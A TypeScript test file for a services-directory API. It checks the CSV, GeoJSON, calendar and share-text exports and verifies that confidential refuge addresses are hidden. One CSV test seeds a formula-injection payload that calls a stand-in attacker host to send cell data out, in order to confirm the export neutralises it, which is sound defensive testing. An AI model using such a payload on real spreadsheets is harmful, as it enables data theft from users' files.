import { parse } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedTaxonomy } from '../../fixtures/demo/taxonomy.js';
import { createTestApp, type SignedIn, type TestApp } from '../testing/test-app.js';
import { SHARE_MAX_CHARS } from './exports.js';
import type { ServiceView } from './services.js';
import { serviceBody } from './testing.js';

let t: TestApp;
let organiser: SignedIn;
let reader: SignedIn;
let shed: ServiceView;
let refuge: ServiceView;

beforeAll(async () => {
  t = await createTestApp();
  await seedTaxonomy(t.db);
  organiser = await t.signIn('organiser');
  reader = await t.signIn('link_worker');
  const contact = await t.db
    .selectFrom('users')
    .select('id')
    .where('organisationId', '=', organiser.organisationId)
    .executeTakeFirstOrThrow();
  await t.db
    .updateTable('organisations')
    .set({ keyContactUserId: contact.id, email: 'hello@shed.example', phone: '020 7946 0000' })
    .where('id', '=', organiser.organisationId!)
    .execute();
  const make = async (body: Record<string, unknown>) =>
    (await (
      await t.call('POST', '/api/v1/services', serviceBody(body), organiser)
    ).json()) as ServiceView;
  shed = await make({
    name: 'Shed, "the" workshop',
    cost: { kind: 'low_cost', text: '£1 for tea' },
    referralRoute: 'other',
    referralEmail: 'referrals@shed.example',
    schedules: [
      { day: 2, start: '10:00', end: '12:00', locationIndex: 0, validFrom: '2026-07-01' },
      {
        day: 4,
        start: '18:30',
        end: '20:00',
        frequency: 'fortnightly',
        locationIndex: 0,
        validFrom: '2026-07-01',
        validTo: '2026-12-31',
      },
      {
        day: 6,
        start: '11:00',
        end: '13:00',
        frequency: 'monthly',
        locationIndex: 0,
        validFrom: '2026-07-01',
      },
    ],
  });
  refuge = await make({
    name: 'Women’s safe space',
    locations: [
      {
        name: '1 Secret Street',
        address: '1 Secret Street',
        postcode: 'E1 6AN',
        lat: 51.52,
        lng: -0.07,
        confidential: true,
        district: 'Tower Hamlets',
      },
    ],
    schedules: [{ day: 1, start: '13:00', end: '15:00', locationIndex: 0 }],
  });
});
afterAll(() => t.close());

describe('CSV export', () => {
  it('parses back to one row per service, with confidential places reduced to their district', async () => {
    const res = await t.call('GET', '/api/v1/services.csv', undefined, reader);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await res.text();
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((r) => r.id).sort()).toEqual([shed.id, refuge.id].sort());
    const s = rows.find((r) => r.id === shed.id)!;
    expect(s).toMatchObject({
      name: 'Shed, "the" workshop',
      cost: 'low_cost',
      cost_text: '£1 for tea',
      referral_email: 'referrals@shed.example',
      postcode: 'E2 9PL',
      lat: '51.5316',
      stale: 'no',
    });
    expect(Date.now() - Date.parse(s.last_verified_at!)).toBeLessThan(60_000);
    expect(s.schedule).toBe(
      'Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)',
    );
    const r = rows.find((row) => row.id === refuge.id)!;
    expect(r).toMatchObject({
      locations: 'Confidential location (Tower Hamlets)',
      postcode: '',
      lat: '',
      lng: '',
    });
    expect(text).not.toContain('Secret Street');
    expect(text).not.toContain('E1 6AN');
  });

  it('neutralises spreadsheet formulas in every text cell and starts with a UTF-8 byte-order mark', async () => {
    const hostile = (await (
      await t.call(
        'POST',
        '/api/v1/services',
        serviceBody({
          name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
          summary: '+44 7700 900123 (call first)',
          description: '@SUM(1+1)',
          cost: { kind: 'low_cost', text: '-£2 off for members' },
          locations: [
            {
              name: '=1+1 Hall',
              address: '12 Old Ford Road',
              postcode: 'E2 9PL',
              lat: 51.5316,
              lng: -0.0517,
            },
          ],
        }),
        organiser,
      )
    ).json()) as ServiceView;
    try {
      const res = await t.call('GET', '/api/v1/services.csv', undefined, reader);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder().decode(bytes);
      const row = (parse(text, { columns: true, bom: true }) as Record<string, string>[]).find(
        (r) => r.id === hostile.id,
      )!;
      expect(row.name).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
      expect(row.summary).toBe(`'+44 7700 900123 (call first)`);
      expect(row.cost_text).toBe(`'-£2 off for members`);
      expect(row.locations).toMatch(/^'=1\+1 Hall/);
      // Numbers stay numbers: a western longitude is negative, not a formula.
      expect(row.lng).toBe('-0.0517');
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+@\t\r]/);
    } finally {
      await t.call('DELETE', `/api/v1/services/${hostile.id}`, undefined, organiser);
    }
  });

  it('takes the list filters', async () => {
    const rows = parse(
      await (await t.call('GET', '/api/v1/services.csv?q=safe', undefined, reader)).text(),
      { columns: true, bom: true },
    ) as Record<string, string>[];
    expect(rows.map((r) => r.id)).toEqual([refuge.id]);
  });
});

describe('GeoJSON', () => {
  it('maps only non-confidential locations', async () => {
    const fc = (await (
      await t.call('GET', '/api/v1/services.geojson', undefined, reader)
    ).json()) as { features: { properties: { serviceId: string } }[] };
    expect(fc.features.map((f) => f.properties.serviceId)).toEqual([shed.id]);
  });
});

describe('iCalendar', () => {
  it('parses back with weekly, fortnightly and monthly rules in Europe/London', async () => {
    const res = await t.call('GET', `/api/v1/services/${shed.id}/calendar.ics`, undefined, reader);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/calendar/);
    const comp = new ICAL.Component(ICAL.parse(await res.text()));
    const vtimezone = comp.getFirstSubcomponent('vtimezone')!;
    expect(vtimezone.getFirstPropertyValue('tzid')).toBe('Europe/London');
    // Register the calendar's own zone so times convert by its rules (as a calendar app does).
    ICAL.TimezoneService.register(vtimezone);
    const events = comp.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    expect(events).toHaveLength(3);
    const [tue, thu, sat] = events as [ICAL.Event, ICAL.Event, ICAL.Event];
    expect(tue.summary).toBe(shed.name);
    expect(tue.location).toBe("St Margaret's Hall, 12 Old Ford Road, London, E2 9PL");
    // 1 July 2026 is a Wednesday: the first Tuesday on or after it is 7 July.
    expect(tue.startDate.toString()).toBe('2026-07-07T10:00:00');
    expect(tue.startDate.zone?.tzid).toBe('Europe/London');
    expect(tue.endDate.toString()).toBe('2026-07-07T12:00:00');
    // In summer, 10:00 London is 09:00 UTC; in winter it is 10:00 UTC.
    expect(tue.startDate.toJSDate().toISOString()).toBe('2026-07-07T09:00:00.000Z');
    const winter = tue.iterator();
    let occurrence = winter.next();
    while (occurrence && occurrence.toString() < '2026-11-01') occurrence = winter.next();
    expect(occurrence!.toJSDate().toISOString()).toBe('2026-11-03T10:00:00.000Z');
    const weekly = tue.component.getFirstPropertyValue('rrule') as ICAL.Recur;
    expect(weekly.freq).toBe('WEEKLY');
    expect(weekly.interval).toBe(1);

    const fortnightly = thu.component.getFirstPropertyValue('rrule') as ICAL.Recur;
    expect(fortnightly.freq).toBe('WEEKLY');
    expect(fortnightly.interval).toBe(2);
    expect(fortnightly.until?.toJSDate().toISOString().slice(0, 10)).toBe('2026-12-31');
    const it2 = thu.iterator();
    const dates = [it2.next(), it2.next(), it2.next()].map((d) => d!.toString().slice(0, 10));
    expect(dates).toEqual(['2026-07-02', '2026-07-16', '2026-07-30']);

    // Monthly: the first Saturday on or after 1 July 2026 is 4 July, the first Saturday of the month.
    const it3 = sat.iterator();
    const monthly = [it3.next(), it3.next(), it3.next()].map((d) => d!.toString().slice(0, 10));
    expect(monthly).toEqual(['2026-07-04', '2026-08-01', '2026-09-05']);
  });

  it('never puts a confidential address in a calendar', async () => {
    const text = await (
      await t.call('GET', `/api/v1/services/${refuge.id}/calendar.ics`, undefined, reader)
    ).text();
    const [event] = new ICAL.Component(ICAL.parse(text))
      .getAllSubcomponents('vevent')
      .map((v) => new ICAL.Event(v));
    expect(event!.location).toBe('Confidential location (Tower Hamlets)');
    expect(text).not.toContain('Secret');
  });

  it('404 for an unknown service', async () => {
    expect(
      (
        await t.call(
          'GET',
          '/api/v1/services/00000000-0000-4000-8000-000000000000/calendar.ics',
          undefined,
          reader,
        )
      ).status,
    ).toBe(404);
  });
});

describe('copy for a message', () => {
  it('gives name, when, where, cost, how to refer and the key contact in a chat-sized text', async () => {
    const res = await t.call('GET', `/api/v1/services/${shed.id}/share.txt`, undefined, reader);
    expect(res.headers.get('content-type')).toMatch(/^text\/plain/);
    const text = await res.text();
    expect(text.length).toBeLessThanOrEqual(SHARE_MAX_CHARS);
    expect(text).toContain('Shed, "the" workshop');
    expect(text).toContain(
      'When: Tue 10:00–12:00; Thu 18:30–20:00 (fortnightly); Sat 11:00–13:00 (monthly)',
    );
    expect(text).toContain("Where: St Margaret's Hall, 12 Old Ford Road, London, E2 9PL");
    expect(text).toContain('Cost: Low cost: £1 for tea');
    expect(text).toContain('How to refer: Referral — referrals@shed.example');
    expect(text).toMatch(/Contact: Test organiser \d+, hello@shed\.example, 020 7946 0000/);
    expect(text).toContain(`${t.config.publicUrl}/s/${shed.id}`);
  });

  it('shows a refuge by district only', async () => {
    const text = await (
      await t.call('GET', `/api/v1/services/${refuge.id}/share.txt`, undefined, reader)
    ).text();
    expect(text).toContain('Where: Confidential location (Tower Hamlets)');
    expect(text).not.toContain('Secret');
  });
});
